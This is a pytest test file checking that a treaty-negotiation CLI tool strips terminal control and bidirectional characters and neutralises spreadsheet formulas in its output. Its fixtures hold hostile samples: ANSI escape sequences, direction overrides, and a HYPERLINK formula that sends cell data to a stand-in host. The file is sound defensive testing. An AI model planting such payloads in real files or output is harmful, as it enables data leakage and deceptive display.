"""Text from others is hostile on the way out: no control or direction character reaches a terminal, no cell is a formula."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from console import Typed
from hypothesis import given
from hypothesis import strategies as st

from negotiator.cli.output import FORMATS, clean, echo_rows

CLEAR = "\x1b[2J\x1b]0;owned\x07"
C1 = "\x9b31m"
BIDI = "\u202eevil\u202c \u2066isolate\u2069 \u200e\u200f"
FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"click")'
LETHAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")

OLD = [
    {"number": "1", "text": f"Parties {CLEAR} report {C1} on stockpiles {BIDI} every year."},
    {"number": "2", "text": FORMULA},
    {"number": "3", "text": "@SUM(1+1) the parties cooperate on | pipes | in clearance."},
    {"number": "4", "text": "Parties assist victims.\x08\x7f"},
]
NEW = [
    {"number": "1", "text": f"Parties {CLEAR} must report {C1} on stockpiles {BIDI} every {CLEAR} second year."},
    *OLD[1:3],
    {"number": "5", "text": f"+1 {CLEAR} new paragraph \u202ereversed"},
]


@pytest.fixture
def hostile(typed: Typed, desk: Path) -> Path:
    for name, clauses in (("old", OLD), ("new", NEW)):
        (desk / f"{name}.json").write_text(json.dumps({"title": f"T{CLEAR}{BIDI}", "language": "en", "clauses": clauses}), encoding="utf-8")
    paper = {"clauses": [{"id": "II.1", "number": "1", "target": "declaration", "text": f"obtain {CLEAR} annual reports {BIDI} on stockpiles {C1}"}]}
    (desk / "paper.json").write_text(json.dumps(paper), encoding="utf-8")
    assert typed("init").code == 0
    for file, document, label in (("old", "declaration", "Rev.1"), ("new", "declaration", "Rev.2"), ("paper", "eu-position", "Adopted")):
        ended = typed("import", f"{file}.json", "--document", document, "--label", label)
        assert ended.code == 0, ended.err
        assert not LETHAL.search(ended.out + ended.err)
    return desk


COMMANDS = [
    ("parse", "old.json"),
    ("parse", "old.json", "--explain"),
    ("compare", "old.json", "new.json"),
    ("compare", "declaration@rev1", "declaration@rev2", "--all"),
    ("documents",),
    ("revisions", "declaration"),
    ("clauses", "declaration"),
    ("history", "declaration:1"),
    ("search", "stockpiles"),
    ("points",),
    ("suggest",),
    ("coverage",),
    ("log",),
]


@pytest.mark.parametrize("form", FORMATS)
def test_no_control_or_direction_character_reaches_the_terminal(typed: Typed, hostile: Path, form: str) -> None:
    typed("link", "II.1", "1", "--as", "reflected", "--quote", "every")
    for command in COMMANDS:
        ended = typed(*command, "--format", form)
        assert ended.code == 0, ended.err
        found = LETHAL.search(ended.out + ended.err)
        assert found is None, f"{' '.join(command)} lets {found[0]!r} through"


def test_nor_through_what_has_one_form_only(typed: Typed, hostile: Path) -> None:
    for command in (("show", "declaration:1"), ("show", "declaration:1", "--format", "json"), ("link", "II.1", "1", "--as", "partial", "--note", CLEAR)):
        ended = typed(*command)
        assert ended.code == 0
        assert not LETHAL.search(ended.out + ended.err)
    for command in (
        ("show", f"declaration:{CLEAR}"),
        ("parse", f"{CLEAR}.txt"),
        ("link", "II.1", "1", "--as", "partial", "--quote", f"no {BIDI}"),
        ("clauses", C1),
    ):
        ended = typed(*command)
        assert ended.code == 2
        assert not LETHAL.search(ended.out + ended.err)


def test_what_no_database_keeps_is_refused_and_can_still_be_looked_at(typed: Typed, hostile: Path) -> None:
    before = (hostile / "negotiation.db").read_bytes()
    for text in ("One\x00thing is agreed.", "One \ud800 thing is agreed."):
        (hostile / "odd.json").write_text(json.dumps({"clauses": [{"text": text}]}), encoding="utf-8")
        for form in FORMATS:
            ended = typed("parse", "odd.json", "--format", form)
            assert ended.code == 0, ended.err
            assert not LETHAL.search(ended.out)
        assert typed("parse", "odd.json", "--format", "json").json[0]["text"] == text
        assert typed("import", "odd.json", "--document", "declaration", "--label", "odd").code == 2
    assert (hostile / "negotiation.db").read_bytes() == before


def test_json_still_carries_the_text_to_the_letter(typed: Typed, hostile: Path) -> None:
    assert typed("parse", "old.json", "--format", "json").json[0]["text"] == OLD[0]["text"]
    assert typed("clauses", "declaration@rev1", "--format", "json").json[0]["text"] == OLD[0]["text"]


def test_no_cell_of_csv_is_a_formula(typed: Typed, hostile: Path) -> None:
    for command in (("clauses", "declaration@rev1"), ("parse", "old.json"), ("search", "the"), ("parse", "old.json", "--explain")):
        for row in csv.reader(io.StringIO(typed(*command, "--format", "csv").out)):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    texts = [row["text"] for row in csv.DictReader(io.StringIO(typed("clauses", "declaration@rev1", "--format", "csv").out))]
    assert texts[1] == f"'{FORMULA}"
    assert texts[2].startswith("'@SUM")


def test_a_pipe_in_a_text_breaks_no_markdown_table(typed: Typed, hostile: Path) -> None:
    lines = typed("clauses", "declaration@rev1", "--format", "md").out.splitlines()
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in lines} == {5}


@given(st.text())
def test_clean_leaves_everything_else_alone(text: str) -> None:
    shown = clean(text)
    assert len(shown) == len(text)
    assert all(b in (a, "\N{REPLACEMENT CHARACTER}") for a, b in zip(text, shown, strict=True))
    assert not any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in shown)


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=4))
def test_csv_reads_back_what_is_no_formula(rows: list[list[str]]) -> None:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        echo_rows("csv", ("a", "b"), rows, None)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert [[cell.removeprefix("'") for cell in row] for row in read] == [[clean(cell).removeprefix("'") for cell in row] for row in rows]
